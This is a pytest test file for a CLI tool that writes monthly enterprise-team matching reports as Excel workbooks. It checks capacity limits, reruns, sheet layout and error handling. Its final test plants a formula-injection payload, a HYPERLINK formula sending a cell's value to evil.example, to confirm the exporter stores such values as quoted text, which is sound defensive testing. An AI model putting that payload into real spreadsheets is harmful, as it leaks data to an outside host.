"""`cxy report monthly` on the sample: fresh proposals under team capacities, stored once per month and
reproducible, written as a workbook with the agreed sheets (and a page, see test_report_page.py)."""

import json
from collections import Counter

import pytest
from openpyxl import load_workbook

from tests.conftest import copy_sample_db

MONTH = "2026-11"


@pytest.fixture(scope="module")
def reported(sample_db, tmp_path_factory):
    """A private sample copy with the 2026-11 report run once; returns (cli, out folder, the json output)."""
    folder = tmp_path_factory.mktemp("monthly")
    cli = copy_sample_db(sample_db, folder)
    out = folder / "reports"
    result = cli("report", "monthly", "--month", MONTH, "--out", out, "--format", "json")
    return cli, out, json.loads(result.output)


def proposals(cli, report_id: str) -> list[tuple]:
    return cli.query("""SELECT i.need_id, i.team_id, i.rank, i.score, n.enterprise_id FROM recommendation_items i
                        JOIN report_lists l ON l.run_id = i.run_id JOIN needs n ON n.id = i.need_id
                        WHERE l.report_id = ? ORDER BY i.need_id, i.rank""", report_id)


def test_every_team_is_proposed_to_at_most_its_capacity_of_enterprises(reported):
    cli, _, output = reported
    rows = proposals(cli, output["report_id"])
    assert len(rows) == output["coverage"]["current"]["proposals"] > 50
    capacity = dict(cli.query("SELECT id, coalesce(capacity, 3) FROM teams"))
    enterprises_per_team = Counter(team for team, _ in {(t, e) for _, t, _, _, e in rows})
    assert max(enterprises_per_team.values()) >= 2  # popular teams are shared out, not just listed once
    assert all(n <= capacity[t] for t, n in enterprises_per_team.items())
    assert all(n <= 5 for n in Counter(need for need, *_ in rows).values())
    institution = dict(cli.query("SELECT id, institution_id FROM teams"))
    assert max(Counter((need, institution[team]) for need, team, *_ in rows).values()) <= 3  # as match lists
    # The capacity costs little fit on the sample (target <= 5% against unconstrained lists).
    assert output["fit"]["proposals_unconstrained"] >= output["fit"]["proposals_constrained"]
    assert 0 <= output["fit"]["cost_share"] <= 0.05


def test_proposals_are_fresh_key_enterprise_needs_above_the_floor(reported):
    cli, _, output = reported
    rows = proposals(cli, output["report_id"])
    key = {e for (e,) in cli.query("SELECT id FROM enterprises WHERE key_enterprise")}
    assert {e for *_, e in rows} <= key
    history = Counter()
    for need, team, stage, date in cli.query("SELECT need_id, team_id, stage, date FROM outcome_events "
                                             "WHERE date < '2026-12-01'"):
        # Any progress (or a proposal in the last 180 days) makes the pair not fresh.
        history[(need, team)] += stage != "proposed" or date >= "2026-05-05"
    assert not [r for r in rows if history[(r[0], r[1])]]
    assert min(score for *_, score, _ in rows) >= 0.4


def test_a_rerun_reuses_the_stored_run_and_force_reproduces_the_same_proposals(reported):
    cli, out, output = reported
    runs_before = cli.query("SELECT count(*) FROM recommendation_runs")[0][0]
    again = json.loads(cli("report", "monthly", "--month", MONTH, "--out", out, "--format", "json").output)
    assert again["reused"] and again["report_id"] == output["report_id"] and not again["data_changed"]
    assert cli.query("SELECT count(*) FROM recommendation_runs")[0][0] == runs_before
    assert cli.query("SELECT count(*) FROM report_runs")[0][0] == 1
    forced = json.loads(cli("report", "monthly", "--month", MONTH, "--out", out, "--format", "json",
                            "--force").output)
    assert not forced["reused"] and forced["report_id"] != output["report_id"]
    assert cli.query("SELECT count(*) FROM report_runs")[0][0] == 2
    assert proposals(cli, forced["report_id"]) == proposals(cli, output["report_id"])
    digests = cli.query("SELECT DISTINCT proposals_digest, data_digest FROM report_runs")
    assert len(digests) == 1
    listed = cli("report", "list").output
    assert sum(line.startswith(MONTH) for line in listed.splitlines()) == 2


def test_the_workbook_has_the_agreed_sheets_frozen_headers_and_no_formulas(reported):
    cli, out, output = reported
    book = load_workbook(out / f"monthly-report-{MONTH}.xlsx")
    assert book.sheetnames == ["汇总", "推荐清单", "跟进漏斗", "按县区", "按行业", "覆盖与公平"]
    summary = book["汇总"]
    assert summary.freeze_panes == "C5" and "三清零" in summary["A1"].value
    assert [summary.cell(3, j).value for j in (1, 2, 3)] == ["序号", "县区", "重点企业数"]
    headers = [c.value for c in summary[4]]
    assert headers.count("已有") == 3 and headers.count("本月新增") == 3
    rows = list(summary.iter_rows(min_row=5, values_only=True))
    total = next(r for r in rows if r[1] == "合计")
    key = cli.query("SELECT count(*) FROM enterprises WHERE key_enterprise")[0][0]
    assert total[2] == key
    assert total[-1] == output["coverage"]["current"]["proposals"]  # 本月推荐 推荐条数
    assert total[4] == "—"  # platform moves: there is no previous month's run to compare with
    listing = book["推荐清单"]
    assert listing.freeze_panes == "A2" and listing.auto_filter.ref
    header = [c.value for c in listing[1]]
    for column in ("企业名称", "需求", "团队", "单位", "联系途径", "推荐理由", "匹配度"):
        assert column in header
    teams = [r[header.index("团队")] for r in listing.iter_rows(min_row=2, values_only=True)]
    assert sum(1 for t in teams if t) == output["coverage"]["current"]["proposals"]
    assert listing.column_dimensions["A"].width >= 6
    # Printable: landscape, header rows repeated; long reasons wrap in rows tall enough to show them.
    assert summary.page_setup.orientation == "landscape" and summary.print_title_rows == "$3:$4"
    assert listing.print_title_rows == "$1:$1" and listing.row_dimensions[2].height >= 30
    for sheet in book:
        assert sheet.freeze_panes
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert [c.value for c in book["跟进漏斗"]["A"][1:5]] == ["已推荐", "已联系", "洽谈中", "已签约"]


def test_next_month_does_not_repeat_this_months_proposals_and_reports_the_change(reported, tmp_path):
    cli, out, output = reported
    nxt = json.loads(cli("report", "monthly", "--month", "2026-12", "--out", out, "--format", "json").output)
    before = {(n, t) for n, t, *_ in proposals(cli, output["report_id"])}
    after = {(n, t) for n, t, *_ in proposals(cli, nxt["report_id"])}
    assert after and not before & after
    assert nxt["coverage"]["previous"] is not None
    assert nxt["coverage"]["change"]["teams_share"] is not None
    summary = load_workbook(out / "monthly-report-2026-12.xlsx")["汇总"]
    total = next(r for r in summary.iter_rows(min_row=5, values_only=True) if r[1] == "合计")
    assert total[4] == 0  # compared with November's flags: nobody gained a platform


def test_bad_month_is_refused_and_nothing_is_stored(sample_db, tmp_path):
    cli = copy_sample_db(sample_db, tmp_path)
    result = cli("report", "monthly", "--month", "2026/11", "--out", tmp_path / "r", ok=False)
    assert result.exit_code == 2 and "YYYY-MM" in result.output
    assert cli.query("SELECT count(*) FROM report_runs")[0][0] == 0 and not (tmp_path / "r").exists()


def test_without_flagged_key_enterprises_every_enterprise_is_covered(sample_db, tmp_path):
    from matcher.reports.status import report_enterprises
    from matcher.store.db import open_database, session_factory

    cli = copy_sample_db(sample_db, tmp_path)
    cli.query("UPDATE enterprises SET key_enterprise = FALSE")
    with session_factory(open_database(cli.url))() as session:
        covered = report_enterprises(session)
    assert len(covered) == cli.query("SELECT count(*) FROM enterprises")[0][0]


def test_a_rerun_after_new_follow_up_keeps_the_proposals_and_counts_the_follow_up(reported):
    cli, out, output = reported
    funnel = load_workbook(out / f"monthly-report-{MONTH}.xlsx")["跟进漏斗"]
    contacted_before = next(r for r in funnel.iter_rows(values_only=True) if r[0] == "已联系")
    run_id, need, team, rank = cli.query(
        """SELECT i.run_id, i.need_id, i.team_id, i.rank FROM recommendation_items i
           JOIN report_lists l ON l.run_id = i.run_id WHERE l.report_id = ?
           AND NOT EXISTS (SELECT 1 FROM outcome_events o WHERE o.need_id = i.need_id AND o.team_id = i.team_id)
           ORDER BY i.run_id, i.rank LIMIT 1""",
        output["report_id"])[0]
    # A pair with no history (a re-proposed one counts in the month it was first proposed, not this one).
    cli("feedback", "record", need, team, "contacted", "--date", "2026-11-25", "--run", run_id)
    assert cli.query("SELECT shown_rank FROM outcome_events WHERE run_id = ?", run_id) == [(rank,)]
    again = json.loads(cli("report", "monthly", "--month", MONTH, "--out", out, "--format", "json").output)
    assert again["reused"] and again["data_changed"] and any("--force" in n for n in again["notes"])
    funnel = load_workbook(out / f"monthly-report-{MONTH}.xlsx")["跟进漏斗"]
    contacted_after = next(r for r in funnel.iter_rows(values_only=True) if r[0] == "已联系")
    assert contacted_after[1] == contacted_before[1] + 1 and contacted_after[3] == contacted_before[3] + 1


def test_a_key_enterprise_without_open_needs_is_listed_with_what_to_do(sample_db, tmp_path):
    cli = copy_sample_db(sample_db, tmp_path)
    enterprise = cli.query("SELECT e.id, e.name FROM enterprises e WHERE key_enterprise ORDER BY id LIMIT 1")[0]
    cli.query("UPDATE needs SET status = 'closed' WHERE enterprise_id = ?", enterprise[0])
    cli("report", "monthly", "--month", MONTH, "--out", tmp_path / "r")
    listing = load_workbook(tmp_path / "r" / f"monthly-report-{MONTH}.xlsx")["推荐清单"]
    header = [c.value for c in listing[1]]
    rows = [dict(zip(header, r, strict=True)) for r in listing.iter_rows(min_row=2, values_only=True)]
    mine = [r for r in rows if r["企业编号"] == enterprise[0]]
    assert len(mine) == 1 and not mine[0]["团队"] and "暂无登记的开放需求" in mine[0]["推荐理由"]
    page = (tmp_path / "r" / f"monthly-report-{MONTH}.html").read_text(encoding="utf-8")
    assert enterprise[1] in page and "暂无登记的开放需求" in page


def test_an_empty_database_or_a_missing_index_is_refused_clearly_and_nothing_is_stored(cli, sample_db, tmp_path):
    import shutil

    result = cli("report", "monthly", "--month", MONTH, "--out", tmp_path / "r", ok=False)
    assert result.exit_code == 1 and "数据库里还没有企业" in result.output
    assert cli.query("SELECT count(*) FROM report_runs") == [(0,)] and not (tmp_path / "r").exists()

    copy = copy_sample_db(sample_db, tmp_path / "noindex")
    shutil.rmtree(copy.index)
    result = copy("report", "monthly", "--month", MONTH, "--out", tmp_path / "r", ok=False)
    assert result.exit_code == 1 and "cxy index build" in result.output
    assert copy.query("SELECT count(*) FROM report_runs") == [(0,)] and not (tmp_path / "r").exists()


def test_names_that_look_like_formulas_stay_quoted_text_in_the_workbook(sample_db, tmp_path):
    cli = copy_sample_db(sample_db, tmp_path)
    enterprise = cli.query("SELECT id FROM enterprises WHERE key_enterprise ORDER BY id LIMIT 1")[0][0]
    payload = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
    cli.query("UPDATE enterprises SET name = ? WHERE id = ?", payload, enterprise)
    cli.query("UPDATE needs SET title = '@SUM(1+1)' || title WHERE enterprise_id = ?", enterprise)
    cli("report", "monthly", "--month", MONTH, "--out", tmp_path / "r")
    book = load_workbook(tmp_path / "r" / f"monthly-report-{MONTH}.xlsx")
    risky = [c for ws in book for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert {c.value for c in risky} >= {payload}  # shown as written, not rewritten
    assert any(c.value.startswith("@SUM") for c in risky)
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), [(c.coordinate, c.data_type) for c in risky]
